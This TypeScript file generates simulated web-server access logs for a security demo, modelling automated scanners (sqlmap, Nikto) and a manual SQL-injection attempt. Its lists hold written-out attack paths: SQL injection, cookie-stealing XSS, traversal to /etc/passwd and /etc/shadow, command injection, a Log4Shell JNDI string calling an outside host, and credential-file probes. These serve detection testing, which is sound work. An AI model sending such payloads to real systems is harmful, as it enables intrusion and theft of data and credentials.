import type { Random } from '../learning/random.ts'
import { between, type DemoLine, pick, type Script, SECOND, waiting, whole } from './scene.ts'
import { browser } from './visitors.ts'
import { accessLine } from './web-lines.ts'

const INJECTIONS = [
  "/lamps?page=1'%20OR%20'1'='1'--",
  '/search?q=1%20UNION%20ALL%20SELECT%20NULL,username,password%20FROM%20users--',
  "/account?id=7';%20DROP%20TABLE%20orders;--",
  '/search?q=1%20AND%20SLEEP(5)',
  "/chairs/1044'%20AND%20extractvalue(1,concat(0x7e,version()))--",
  '/search?q=1%27%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables--',
]
const SCRIPTS = [
  '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
  '/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E',
  '/contact?name=%3Csvg/onload=confirm(1)%3E',
]
const TRAVERSALS = [
  '/images/..%2f..%2f..%2f..%2fetc%2fpasswd',
  '/assets/....//....//etc/passwd',
  '/download?file=../../../../../../etc/shadow',
  '/index.php?page=php://filter/convert.base64-encode/resource=config',
]
const COMMANDS = [
  '/cgi-bin/test.cgi?cmd=;cat%20/etc/passwd',
  '/ping?host=127.0.0.1|id',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attacker's template, not ours (Log4Shell)
  '/?x=${jndi:ldap://203.0.113.66:1389/a}',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
]
const PROBES = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/phpmyadmin/',
  '/backup.sql',
  '/actuator/env',
  '/.aws/credentials',
]
PROBES.push('/xmlrpc.php', '/server-status', '/manager/html', '/old/', '/config.php.bak', '/solr/admin/info/system')

const attack = (random: Random): string =>
  pick(random, pick(random, [INJECTIONS, INJECTIONS, SCRIPTS, TRAVERSALS, COMMANDS, PROBES, PROBES]))

/** A scanner that goes through its list, named by its own user agent, and one that poses as a browser. */
export const webScanners: Script = ({ random, at }) => {
  const scanners = [
    {
      source: '198.51.100.201',
      start: 7.2,
      count: 420,
      pauseMs: 180,
      agent: 'sqlmap/1.8.11#stable (https://sqlmap.org)',
    },
    {
      source: '203.0.113.215',
      start: 19.1,
      count: 380,
      pauseMs: 260,
      agent: 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)',
    },
    { source: '203.0.113.216', start: 22.7, count: 260, pauseMs: 400, agent: browser(random) },
  ]
  const lines = scanners.flatMap(({ source, start, count, pauseMs, agent }) => {
    let ts = at(start)
    return Array.from({ length: count }, (): DemoLine => {
      ts += between(random, pauseMs * 0.5, pauseMs * 1.5)
      const status = pick(random, [404, 404, 404, 403, 400, 200, 500])
      return accessLine(ts, { source, path: attack(random), status, bytes: whole(random, 150, 4_000), agent })
    })
  })
  return [{ name: 'web scanners', threatClass: 4, sensor: 'web', sources: scanners.map(({ source }) => source), lines }]
}

/** A person who tries one form by hand: pages in between, seconds of thought, ever better injections. */
export const injectionByHand: Script = ({ random, at }) => {
  const source = '198.51.100.219'
  const agent = browser(random)
  const lines: DemoLine[] = []
  let ts = at(20.4)
  for (let n = 0; n < 70; n++) {
    const harmless = random.below(4) === 0
    const path = harmless ? `/search?q=lamps&page=${whole(random, 1, 4)}` : pick(random, INJECTIONS)
    const status = harmless ? 200 : pick(random, [500, 500, 200, 403])
    lines.push(accessLine(ts, { source, path, status, bytes: whole(random, 300, 14_000), agent }))
    ts += 3 * SECOND + waiting(random, 9 * SECOND)
  }
  return [{ name: 'SQL injection by hand', threatClass: 4, sensor: 'web', sources: [source], lines }]
}
